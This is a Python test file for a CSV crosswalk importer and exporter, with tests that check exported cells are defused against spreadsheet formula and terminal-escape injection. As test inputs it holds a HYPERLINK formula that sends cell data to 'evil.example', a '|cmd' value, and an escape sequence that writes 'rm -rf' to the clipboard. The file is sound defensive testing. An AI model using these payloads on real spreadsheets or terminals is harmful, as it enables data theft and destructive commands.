"""Codes are named by systems, and their table is opened with a spreadsheet."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connector.domain.errors import ConfigurationError
from connector.operations.setup import crosswalk_csv
from connector.operations.setup.crosswalk_csv import write
from connector.operations.setup.crosswalks import problem
from connector.store.operator.crosswalks import Code
from tests.domain.test_harmless import obeyed

#: a spreadsheet computes a cell that begins so
COMPUTED = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CELLS = st.builds(
    lambda quotes, first, rest: quotes + first + rest,
    st.sampled_from(["", "'", "''"]),
    st.sampled_from(["", *COMPUTED]),
    st.from_regex(r"[A-Za-z0-9'=,;\"|() -]{0,20}[a-z0-9]", fullmatch=True),
).filter(lambda cell: cell == cell.strip())


UNITS = [Code(table="units", source="ST", target="EA"), Code(table="units", source="KG", target="KGM")]


def read(text: str, *known: str) -> list[Code]:
    return crosswalk_csv.read(text, name="codes.csv", problem=lambda code: problem(code, known or None))


@pytest.mark.parametrize(
    "text",
    [
        "table,source,target\nunits,ST,EA\nunits,KG,KGM\n",
        "sep=;\r\nTable;Source;Target\r\nunits;ST;EA\r\nunits;KG;KGM\r\n",
        'sep=,\ntable,source,target\nunits,ST,EA\nunits,"KG",KGM',
        "\ufeffsep=\t\ntable\tsource\ttarget\nunits\tST\tEA\nunits\tKG\tKGM\n",
        '"sep=;"\nTable;Source;Target\nunits;ST;EA\nunits;KG;KGM\n',
        "sep=;;;\nTable;Source;Target;;\nunits;ST;EA;;\n;;;;\nunits;KG;KGM;;\n;;;;\n",
        "Source;Target;Table\nST;EA;units\nKG;KGM;units\n",
    ],
)
def test_a_file_is_read_whoever_saved_it(text: str) -> None:
    assert read(text, "units") == UNITS


def test_every_mistake_is_said_with_its_line() -> None:
    text = (
        "sep=;\ntable;source;target\nunit;ST;EA\nunits;;EA\nunits;EA\nunits;A;B\nunits;A;C\nunits;\x1b;D\nunits;OK;OK\n"
    )
    with pytest.raises(ConfigurationError) as said:
        read(text, "units", "payment_terms")
    assert said.value.message.splitlines() == [
        "codes.csv, line 3: There is no crosswalk table 'unit'. Did you mean 'units'? Known: payment_terms, units.",
        "codes.csv, line 4: the source is empty.",
        "codes.csv, line 5: 2 cells where 3 are expected.",
        "codes.csv, line 7: units 'A' stands on line 6 already.",
        (
            "codes.csv, line 8: The source '\\x1b' of a row is not usable: 1 to 200 printable characters, "
            "without spaces around them, are allowed."
        ),
    ]


def test_of_a_file_that_is_all_wrong_a_person_reads_the_first_mistakes() -> None:
    with pytest.raises(ConfigurationError) as said:
        read("table,source,target\n" + "units,,\n" * 500)
    assert said.value.message.splitlines()[-1] == "codes.csv has 480 more mistakes."
    assert len(said.value.message.splitlines()) == 21


@pytest.mark.parametrize("code", ['=HYPERLINK("https://evil.example/?"&A1,"open")', "@SUM(1)", "+1", "-1+1|cmd", "=1"])
def test_no_code_is_computed_by_a_spreadsheet(code: str) -> None:
    rows = list(csv.reader(write([Code(table=code, source=code, target=code)]).splitlines()))
    assert rows == [["table", "source", "target"], [f"'{code}"] * 3]


@pytest.mark.parametrize("ends", [";", "; ", ";;", ";'"])
def test_no_code_is_computed_by_a_spreadsheet_that_ends_cells_at_semicolons(ends: str) -> None:
    code = Code(table="units", source=f'EA{ends}=HYPERLINK("https://evil.example/","open")', target="EA")
    written = write([code])
    cells = [cell.strip() for cell in written.replace("\n", ";").split(";")]
    assert not [cell for cell in cells if cell.startswith(COMPUTED)]
    assert read(written) == [code]


def test_a_code_that_somebody_wrote_by_hand_moves_no_terminal() -> None:
    written = write([Code(table="units", source="\x1b]52;c;cm0gLXJm\x07\x9b2J\u202e\r=1", target="\t=1")])
    assert not [sign for sign in written if obeyed(sign) and sign != "\n"]
    assert "\u241b" in written


@given(st.lists(st.tuples(CELLS, CELLS), unique_by=lambda pair: pair[0], max_size=5))
def test_what_is_exported_is_imported_as_it_was(pairs: list[tuple[str, str]]) -> None:
    codes = [Code(table="units", source=source, target=target) for source, target in pairs]
    written = write(codes)
    assert read(written) == codes
    assert not [cell for row in csv.reader(written.splitlines()) for cell in row if cell.startswith(COMPUTED)]
